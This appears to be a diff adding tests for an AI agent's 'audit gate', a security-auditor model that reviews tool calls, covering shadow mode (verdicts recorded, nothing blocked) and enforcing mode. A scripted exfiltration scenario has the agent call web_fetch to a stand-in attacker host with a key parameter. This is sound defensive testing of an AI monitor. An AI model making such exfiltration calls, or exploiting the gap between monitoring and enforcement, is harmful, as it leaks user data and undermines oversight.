@@ -293,6 +293,14 @@ describe.each(SCRIPTED_PROVIDERS)("agent loop via $provider", ({ model }) => {
     );
   }
 
+  /** The conversation without the ids the scripted server numbers per request (call ids, item ids). */
+  const withoutIds = (messages: readonly ModelMessage[]) =>
+    JSON.parse(
+      JSON.stringify(messages, (key, value) =>
+        key === "toolCallId" || key === "providerOptions" || key === "itemId" ? undefined : value,
+      ),
+    );
+
   const lastToolResultSent = (requests: RequestLogEntry[]) =>
     requests
       .at(-1)
@@ -502,6 +510,55 @@ describe.each(SCRIPTED_PROVIDERS)("agent loop via $provider", ({ model }) => {
         .map((event) => event.type === "audit.verdict" && event.verdict);
       expect(verdicts).toEqual(["clarify", "ok"]);
       expect(events.some((event) => event.type === "audit.clarification")).toBe(true);
+    });
+
+    it("in Shadow audits the step but lets it run, recording what it would have blocked", async () => {
+      const shadow = await run("exfiltrate", { auditGateEnabled: false, auditGateShadow: true });
+      const off = await run("exfiltrate");
+      expect(shadow.toolLog).toEqual(["web_fetch https://attacker.example/collect?k=1"]);
+      expect(shadow.result.outcome).toBe("completed");
+      expect(shadow.halts).toEqual([]);
+      // The auditor was asked (it is what said terminate) ...
+      expect(shadow.requests.some((entry) => entry.conversation?.system.includes("security auditor"))).toBe(
+        true,
+      );
+      const recorded = shadow.events.filter((event) => event.type === "guard.shadow");
+      expect(recorded).toEqual([
+        {
+          type: "guard.shadow",
+          guard: "audit_gate",
+          step: 1,
+          name: "web_fetch",
+          count: 1,
+          verdict: "terminate",
+          // The auditor's reason (its chain of thought, or the default detail when it gave none).
+          previews: [expect.stringMatching(/\S/)],
+        },
+      ]);
+      // ... but nothing of the gate's own enforcement is recorded, and the run is exactly the Off run.
+      expect(shadow.events.some((event) => event.type.startsWith("audit."))).toBe(false);
+      expect(withoutIds(shadow.result.messages)).toEqual(withoutIds(off.result.messages));
+      expect(shadow.result.text).toBe(off.result.text);
+    });
+
+    it("in Shadow runs the clarify loop on a copy of the conversation and records nothing when it ends ok", async () => {
+      const shadow = await run("clarify", { auditGateShadow: true, auditGateMode: "complete" });
+      const off = await run("clarify", { auditGateMode: "complete" });
+      expect(shadow.toolLog).toEqual(["web_fetch https://news.example/a"]);
+      expect(
+        shadow.events.some((event) => event.type === "guard.shadow" || event.type.startsWith("audit.")),
+      ).toBe(false);
+      expect(withoutIds(shadow.result.messages)).toEqual(withoutIds(off.result.messages));
+    });
+
+    it("when On as well as Shadow, enforces: the shadow switch only counts while the gate is off", async () => {
+      const { result, toolLog, events } = await run("exfiltrate", {
+        auditGateEnabled: true,
+        auditGateShadow: true,
+      });
+      expect(toolLog).toEqual([]);
+      expect(result.outcome).toBe("blocked");
+      expect(events.some((event) => event.type === "guard.shadow")).toBe(false);
     });
   });
 });
